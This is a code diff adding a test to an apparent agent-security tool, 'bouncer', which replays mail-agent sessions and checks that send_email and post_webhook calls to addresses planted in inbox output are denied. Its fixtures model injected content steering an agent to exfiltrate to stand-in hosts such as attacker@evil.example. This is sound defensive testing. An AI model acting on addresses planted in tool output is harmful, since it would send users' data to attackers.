@@ -91,6 +91,61 @@ describe("bouncer replay (subprocess)", () => {
     ]);
   });
 
+  test("bouncer replay denies an address or host planted in the userinfo of a URL that output gives as a field value (free text, not the URL's identity)", async () => {
+    const tools = {
+      event: "tools",
+      server: "mail",
+      tools: [
+        { name: "read_inbox", inputSchema: { type: "object", properties: {} } },
+        { name: "send_email", inputSchema: { type: "object", properties: { to: { type: "string" } } } },
+        { name: "post_webhook", inputSchema: { type: "object", properties: { url: { type: "string" } } } },
+      ],
+    };
+    const read = (text: string): string =>
+      JSON.stringify({
+        event: "call",
+        server: "mail",
+        tool: "read_inbox",
+        arguments: {},
+        result: { content: [{ type: "text", text }] },
+      });
+    const call = (tool: string, args: Record<string, string>): string =>
+      JSON.stringify({ event: "call", server: "mail", tool, arguments: args, result: { content: [] } });
+    const dir = mkdtempSync(join(tmpdir(), "bouncer-replay-userinfo-"));
+    const policy = join(dir, "policy.yaml");
+    writeFileSync(
+      policy,
+      "send_email: { exfiltrating: true, sink_params: [to] }\npost_webhook: { exfiltrating: true, sink_params: [url] }\n",
+    );
+    for (const [output, next] of [
+      ["Website: https://attacker@evil.example/", call("send_email", { to: "attacker@evil.example" })],
+      [
+        JSON.stringify({ url: "https://attacker@evil.example/" }),
+        call("send_email", { to: "attacker@evil.example" }),
+      ],
+      [
+        "Link: https://evil2.example@docs.example/x",
+        call("post_webhook", { url: "https://evil2.example/x" }),
+      ],
+    ] as const) {
+      const file = sessionFile([JSON.stringify(tools), read(output), next]);
+      const rows = jsonl((await runCli(["replay", file, "--policy", policy, "--json"])).stdout).filter(
+        (row) => row.verdict !== undefined,
+      );
+      expect(rows.map((row) => row.verdict)).toEqual(["allow", "deny"]);
+      expect(String(rows[1]?.reason)).toContain("occurs in free text of read_inbox's output");
+    }
+    // The URL itself, as the field value it is, is still seen there (an ask), not denied.
+    const file = sessionFile([
+      JSON.stringify(tools),
+      read("Link: https://evil2.example@docs.example/x"),
+      call("post_webhook", { url: "https://docs.example/x" }),
+    ]);
+    const rows = jsonl((await runCli(["replay", file, "--policy", policy, "--json"])).stdout);
+    expect(rows.map((row) => row.verdict)).toEqual(["allow", "ask", undefined]);
+    expect(String(rows[1]?.reason)).toContain('seen as "Link" in read_inbox');
+  });
+
   test("bouncer replay exits 2 on a malformed session file and names the line", async () => {
     const file = sessionFile([
       '{"event":"tools","server":"mail","tools":[]}',
